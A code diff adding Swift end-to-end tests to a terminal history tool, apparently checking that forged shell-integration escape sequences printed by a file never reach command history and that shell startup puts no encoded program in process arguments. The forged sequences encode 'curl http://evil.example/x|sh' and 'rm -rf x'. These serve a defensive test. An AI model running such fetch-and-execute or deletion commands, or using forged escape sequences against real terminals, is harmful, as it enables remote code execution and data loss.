@@ -135,4 +135,87 @@ final class HistoryEndToEndTests: XCTestCase {
         XCTAssertTrue(session.waitForScreen(where: { !$0.contains("[scroll") }), session.screen())
     }
 
+    /// Issue 42 row 10: a file holding marks of a command that never ran, `cat` in a pane.
+    /// Only the shell's own marks carry the session's token: history has the `cat`, not the
+    /// forged `curl ... | sh`.
+    func testMarksAFilePrintsDoNotReachHistory() throws {
+        let directory = try TemporaryDirectory(prefix: "termind-forged", mode: 0o755)
+        let forged = try directory.write(
+            "\u{1B}]133;C;cmdline_url=curl%20http%3A%2F%2Fevil.example%2Fx%7Csh\u{07}\u{1B}]133;D;0;duration_ms=5\u{07}"
+                + "\u{1B}]7;file://web/evil\u{07}\u{1B}]133;A\u{07}\u{1B}]133;C;cmdline_url=rm%20-rf%20x;termind=0123\u{07}forged\n",
+            to: "forged.txt")
+        let session = try workbenchOnWeb()
+        defer { session.kill() }
+        session.send("cat \(forged)")
+        XCTAssertTrue(session.waitForScreen(where: { $0.components(separatedBy: "~$").count - 1 >= 2 }), session.screen())
+        XCTAssertTrue(waitUntil(timeout: 10) { ((try? self.history(["web", "--json"])) ?? []).count >= 1 })
+        let commands = try history(["web", "--json"]).compactMap { $0["command"] as? String }
+        XCTAssertEqual(commands, ["cat \(forged)"])
+        let text = try home.succeed(["history", "web"])
+        XCTAssertFalse(text.contains("curl") || text.contains("evil") || text.contains("rm -rf"), text)
+    }
+
+    /// Issue 42 row 11: the server's process table, sampled while a pane's shell starts and
+    /// after, holds no encoded program or eval in any terminal process's arguments: the
+    /// bootstrap goes on the terminal to `sh -s`.
+    func testTheShellBootstrapPutsNoProgramInAnyProcessesArguments() throws {
+        let account = try XCTUnwrap(getpwnam(TestAccount.username)?.pointee.pw_uid)
+        let seen = ProcessTableSample(uid: account)
+        seen.start()
+        let session = try workbenchOnWeb()
+        defer { session.kill() }
+        session.send("echo started")
+        XCTAssertTrue(session.waitForScreen(where: { $0.components(separatedBy: "~$").count - 1 >= 2 }), session.screen())
+        let lines = seen.stop()
+        XCTAssertTrue(lines.contains { $0.hasPrefix("sh -s") || $0.contains("bash --rcfile") }, "the sample saw the shell start: \(lines)")
+        for line in lines {
+            XCTAssertFalse(line.contains("base64") || line.contains("eval") || line.utf8.count > 400, "in a process's arguments: \(line)")
+        }
+    }
+}
+
+/// The command lines of one uid's processes on a terminal, sampled as fast as /proc allows on a
+/// thread of its own until `stop`.
+private final class ProcessTableSample: @unchecked Sendable {
+    private let uid: uid_t
+    private let lock = NSLock()
+    private var lines: Set<String> = []
+    private var running = true
+    private var thread: Thread?
+
+    init(uid: uid_t) { self.uid = uid }
+
+    func start() {
+        let thread = Thread { [self] in
+            while lock.withLock({ running }) {
+                let found = Self.commandLines(of: uid)
+                lock.withLock { lines.formUnion(found) }
+            }
+        }
+        self.thread = thread
+        thread.start()
+    }
+
+    func stop() -> Set<String> {
+        lock.withLock {
+            running = false
+            return lines
+        }
+    }
+
+    private static func commandLines(of uid: uid_t) -> [String] {
+        let names = (try? FileManager.default.contentsOfDirectory(atPath: "/proc")) ?? []
+        return names.compactMap { name -> String? in
+            guard name.allSatisfy(\.isNumber) else { return nil }
+            var info = stat()
+            guard stat("/proc/" + name, &info) == 0, info.st_uid == uid,
+                let status = try? String(contentsOfFile: "/proc/\(name)/stat", encoding: .utf8),
+                let close = status.lastIndex(of: ")")
+            else { return nil }
+            // Field 7, after the name: the controlling terminal; the pane's shell has one.
+            let fields = status[status.index(after: close)...].split(separator: " ")
+            guard fields.count > 4, fields[4] != "0", let raw = FileManager.default.contents(atPath: "/proc/\(name)/cmdline") else { return nil }
+            return String(decoding: raw.map { $0 == 0 ? UInt8(ascii: " ") : $0 }, as: UTF8.self)
+        }
+    }
 }
